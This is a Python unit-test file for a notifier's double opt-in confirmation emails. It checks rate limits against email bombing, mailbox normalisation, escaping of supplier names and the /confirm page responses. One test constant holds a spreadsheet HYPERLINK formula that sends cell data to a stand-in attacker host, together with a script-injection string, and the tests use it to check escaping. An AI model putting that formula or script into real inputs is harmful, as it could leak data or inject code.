"""Double opt-in's limits, against the notifier's fakes:

- an address gets at most one confirmation email per ``notifier_confirmation_min_interval_days``, whatever supplier
  registered it and however often (five suppliers, the same address in any case, removed and added again): the
  others wait their turn, across restarts; accepting one confirms the address for the supplier it names only; the
  subject is fixed text (what a registrant typed is in the escaped body only);
- ``GET /confirm`` checks what the POST would check: a link that can no longer confirm shows why, with the POST's
  status (404 supplier deleted, 410 address removed or registered again), no button; JSON on request; no write.
"""

from __future__ import annotations

from datetime import timedelta

import pytest

from contracts import SupplierProfile
from contracts.supplier import EmailConfirmation
from services.notifier.domain.confirmation import mailbox
from services.notifier.domain.pages import PAGE_LABELS
from services.notifier.domain.rendering import LABELS
from tests.unit.notifier.factories import NOW, profile
from tests.unit.notifier.rig import AGENCY, REGISTERED, Rig, confirm_link, http, metric, seed, text, unit_settings

pytestmark = pytest.mark.unit

VICTIM = "victim@example.org"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click") <script>alert(1)</script>'


def bomb(
    supplier_id: str, address: str = VICTIM, *, at: object = REGISTERED, by: str = AGENCY, **kw: str
) -> SupplierProfile:
    base = profile(supplier_id, emails=[address], **kw)
    entry = EmailConfirmation(registered_by=by, registered_at=at)
    return base.model_copy(update={"email_confirmations": {address: entry}})


def keys(rig: Rig) -> list[str]:
    return [k.split("|")[0] for k in rig.keys_sent()]


# -- one confirmation email per address and interval ------------------------------------------------------


def test_five_registrations_of_one_address_send_it_one_email_then_one_per_interval(rig: Rig) -> None:
    seed(rig, *(bomb(f"qa-bomb-{i}", VICTIM if i % 2 else VICTIM.upper().replace("EXAMPLE.ORG", "example.org"))
                for i in range(5)))  # fmt: skip
    n = rig.notifier()
    n.confirmations.send_confirmations()
    assert keys(rig) == ["qa-bomb-0"]
    assert metric(n, "notifier_confirmations_held_total") == 4

    rig.now += timedelta(days=29)
    n.confirmations.send_confirmations()
    for p in [rig.profiles.get(f"qa-bomb-{i}") for i in range(5)]:  # the profiles published again meanwhile
        assert p is not None
        rig.profiles.put(p)
    rig.notifier(
        instance_id="n2"
    ).confirmations.send_confirmations()  # another instance, or a restart: the turn is in the store
    assert keys(rig) == ["qa-bomb-0"]

    rig.now += timedelta(days=1, seconds=1)
    n.confirmations.send_confirmations()
    assert keys(rig) == ["qa-bomb-0", "qa-bomb-1"]
    n.confirmations.send_confirmations()
    assert keys(rig) == ["qa-bomb-0", "qa-bomb-1"]


def test_registering_the_address_again_and_again_is_held_too(rig: Rig) -> None:
    seed(rig, bomb("a"))
    n = rig.notifier()
    n.confirmations.send_confirmations()
    for minutes in (1, 2, 3):  # the supplier's own key removes and adds the address: a new registration each time
        seed(rig, bomb("a", at=REGISTERED + timedelta(minutes=minutes)))
        n.confirmations.send_confirmations()
    assert len(rig.mail.sent) == 1


def test_no_limit_when_the_interval_is_zero(rig: Rig) -> None:
    rig.settings = unit_settings(notifier_confirmation_min_interval_days=0)
    seed(rig, *(bomb(f"s{i}") for i in range(3)))
    rig.notifier().confirmations.send_confirmations()
    assert keys(rig) == ["s0", "s1", "s2"]


def test_the_subject_is_fixed_and_what_the_registrant_typed_stays_in_the_escaped_body(rig: Rig) -> None:
    seed(rig, bomb("a", name=EVIL), bomb("z", "other@example.org", name=EVIL, language="zh-Hans"))
    rig.notifier().confirmations.send_confirmations()
    en, zh = rig.mail.sent
    assert (
        str(en["Subject"])
        == LABELS["en"]["subject_confirmation"]
        == "Please confirm your tender alerts from tenderbridge"
    )
    assert str(zh["Subject"]) == LABELS["zh-Hans"]["subject_confirmation"]
    assert "HYPERLINK" not in str(en["Subject"]) + str(zh["Subject"])
    html = en.get_body(preferencelist=("html",))
    assert html is not None
    assert "&lt;script&gt;" in str(html.get_content())
    assert "<script>" not in str(html.get_content())
    body = text(en)
    # the email says what confirming covers, the name as data: quoted, its URL inert (the HTML part escapes it too)
    assert "for “" + EVIL.replace("http://evil.example/", "http[:]//evil[.]example/") + "” only" in body
    assert "every 30 days" in body


def test_accepting_confirms_the_address_for_the_supplier_named_in_the_email_only(rig: Rig) -> None:
    seed(rig, bomb("first"), bomb("second"))
    n, client = http(rig)
    n.confirmations.send_confirmations()
    [sent] = rig.mail.sent
    assert client.post(confirm_link(sent)).status_code == 200
    first, second = rig.profiles.get("first"), rig.profiles.get("second")
    assert first is not None
    assert second is not None
    assert first.alert_emails() == [VICTIM]
    assert second.alert_emails() == []


@pytest.mark.parametrize(
    ("address", "box"),
    [
        ("Bomb+7@Example.org", "bomb@example.org"),
        ("bomb@example.org", "bomb@example.org"),
        ("b.o.m.b+x@GoogleMail.com", "bomb@gmail.com"),
        ("BOMB@gmail.com", "bomb@gmail.com"),
        ("b.omb@example.org", "b.omb@example.org"),  # dots count outside the providers that ignore them
        ("+only@example.org", "+only@example.org"),  # nothing left before the tag: kept as written
        ("a+b+c@example.org", "a@example.org"),
    ],
)
def test_a_mailbox_is_the_address_without_case_plus_tags_and_ignored_dots(address: str, box: str) -> None:
    assert mailbox(address) == box


def no_registrant_limits(rig: Rig, **more: object) -> None:
    rig.settings = unit_settings(
        notifier_confirmations_per_registrant_hour=0, notifier_confirmations_per_registrant_day=0, **more
    )


def test_fifty_plus_addresses_and_gmail_spellings_of_one_mailbox_get_one_email(rig: Rig) -> None:
    no_registrant_limits(rig, notifier_confirmations_per_round=100)
    seed(rig, *(bomb(f"plus-{i}", f"bomb+{i}@example.org") for i in range(50)))
    seed(
        rig,
        *(bomb(f"dots-{i}", a) for i, a in enumerate(["j.doe@gmail.com", "JDoe+x@googlemail.com", "jd.oe@gmail.com"])),
    )
    n = rig.notifier()
    n.confirmations.send_confirmations()
    assert sorted(keys(rig)) == ["dots-0", "plus-0"]
    assert metric(n, "notifier_confirmations_held_total") == 51


def refused(n: object, limit: str) -> float:
    return (
        n.metrics.registry.get_sample_value(  # type: ignore[attr-defined, no-any-return]
            "notifier_confirmations_refused_total", {"limit": limit}
        )
        or 0.0
    )


def test_a_registrant_gets_so_many_confirmation_emails_per_hour_and_the_excess_is_parked_not_sent(rig: Rig) -> None:
    rig.settings = unit_settings(
        notifier_confirmations_per_registrant_hour=3,
        notifier_confirmations_per_registrant_day=5,
        notifier_confirmations_per_round=100,
    )
    seed(rig, *(bomb(f"s{i}", f"s{i}@example.org") for i in range(4)))
    seed(rig, bomb("other", "other@example.org", by="Another Agency"))  # another registrant: its own limits
    n = rig.notifier()
    n.confirmations.send_confirmations()
    assert sorted(keys(rig)) == ["other", "s0", "s1", "s2"]
    assert refused(n, "registrant_hour_limit") == 1
    [letter] = rig.dead_letters()
    assert letter.reason == "registrant_hour_limit"
    assert letter.key is not None
    assert letter.key.startswith("s3|confirmation|s3@example.org|")
    assert AGENCY in letter.detail
    assert "3/hour" in letter.detail
    n.confirmations.send_confirmations()  # the refused one is never tried again, even after a restart
    rig.profiles.put(rig.matcher.profiles["s3"])
    rig.notifier(instance_id="n2").confirmations.send_confirmations()
    assert len(rig.mail.sent) == 4

    rig.now += timedelta(hours=1)  # a new hour; the day has room for two more of this registrant
    seed(rig, *(bomb(f"t{i}", f"t{i}@example.org", at=rig.now) for i in range(3)))
    rig.notifier().confirmations.send_confirmations()
    assert sorted(keys(rig))[-3:] == ["s2", "t0", "t1"]
    assert refused(n, "registrant_hour_limit") == 1
    assert rig.dead_letters()[-1].reason == "registrant_day_limit"


def test_confirmations_go_out_a_round_at_a_time_so_alerts_are_not_held_back(rig: Rig) -> None:
    no_registrant_limits(rig, notifier_confirmations_per_round=4)
    seed(rig, *(bomb(f"s{i}", f"s{i}@example.org") for i in range(10)))
    n = rig.notifier()
    assert n.confirmations.send_confirmations() == 4
    assert metric(n, "notifier_confirmations_deferred_total") == 6
    assert n.confirmations.send_confirmations() == 4
    assert n.confirmations.send_confirmations() == 2
    assert n.confirmations.send_confirmations() == 0
    assert sorted(keys(rig)) == sorted(f"s{i}" for i in range(10))


# -- GET /confirm checks what the POST would ----------------------------------------------------------------


def test_the_page_of_a_deleted_supplier_shows_no_button_and_the_posts_404(rig: Rig) -> None:
    seed(rig, bomb("a", language="zh-Hans"))
    n, client = http(rig)
    n.confirmations.send_confirmations()
    link = confirm_link(rig.mail.sent[0])
    assert '<form method="post"' in client.get(link).text  # live while the supplier exists
    del rig.matcher.profiles["a"]
    page = client.get(link)
    assert page.status_code == client.post(link).status_code == 404
    assert "<form" not in page.text
    assert PAGE_LABELS["zh-Hans"]["confirm_deleted_text"].format(address=VICTIM) in page.text
    as_json = client.get(link, headers={"Accept": "application/json"})
    assert as_json.status_code == 404
    assert as_json.headers["content-type"].startswith("application/problem+json")
    assert rig.matcher.replaced == []


def test_the_page_of_a_removed_or_registered_again_address_shows_no_button_and_the_posts_410(rig: Rig) -> None:
    seed(rig, bomb("a"))
    n, client = http(rig)
    n.confirmations.send_confirmations()
    link = confirm_link(rig.mail.sent[0])
    seed(rig, bomb("a", at=NOW))  # registered again since the email
    page = client.get(link)
    assert page.status_code == client.post(link).status_code == 410
    assert "<form" not in page.text
    assert PAGE_LABELS["en"]["confirm_gone_text"] in page.text
    seed(rig, profile("a", emails=["else@example.org"]))  # removed
    assert client.get(link).status_code == 410
    assert client.get(link, headers={"Accept": "application/json"}).status_code == 410
    assert rig.matcher.replaced == []


def test_the_page_answers_json_on_request_and_says_when_the_address_is_confirmed_already(rig: Rig) -> None:
    seed(rig, bomb("a"))
    n, client = http(rig)
    n.confirmations.send_confirmations()
    link = confirm_link(rig.mail.sent[0])
    wanted = {"supplier_id": "a", "address": VICTIM}
    assert client.get(link, headers={"Accept": "application/json"}).json() == {**wanted, "confirmed": False}
    assert rig.matcher.replaced == []  # a GET writes nothing
    assert client.post(link).status_code == 200
    assert client.get(link, headers={"Accept": "application/json"}).json() == {**wanted, "confirmed": True}
    page = client.get(link)
    assert page.status_code == 200
    assert "<form" not in page.text
    assert PAGE_LABELS["en"]["confirmed_title"] in page.text
    rig.matcher.down = True
    assert client.get(link).status_code == 503


@pytest.mark.parametrize(
    ("language", "intro"),
    [
        ("zh-Hans", "“宁波医疗有限公司” 在 tenderbridge 上登记了此邮箱（a@example.org），用于接收本公司的招标提醒。"),
        ("en", "“Ningbo Medical Co.” has registered this address (a@example.org) on tenderbridge to receive its"),
    ],
)
def test_a_supplier_that_registered_its_own_address_is_named_once(language: str, intro: str) -> None:
    from services.notifier.domain.rendering import render_confirmation

    # The supplier's own key registers under its English name; a Chinese email must not read like two companies.
    mail = render_confirmation(profile(language=language), "a@example.org", "Ningbo Medical Co.", "https://x/c")
    assert intro in mail.text
    assert "Ningbo Medical Co." not in mail.text or language == "en"
    agency = render_confirmation(profile(language=language), "a@example.org", "UNICEF", "https://x/c")
    assert "UNICEF" in agency.text
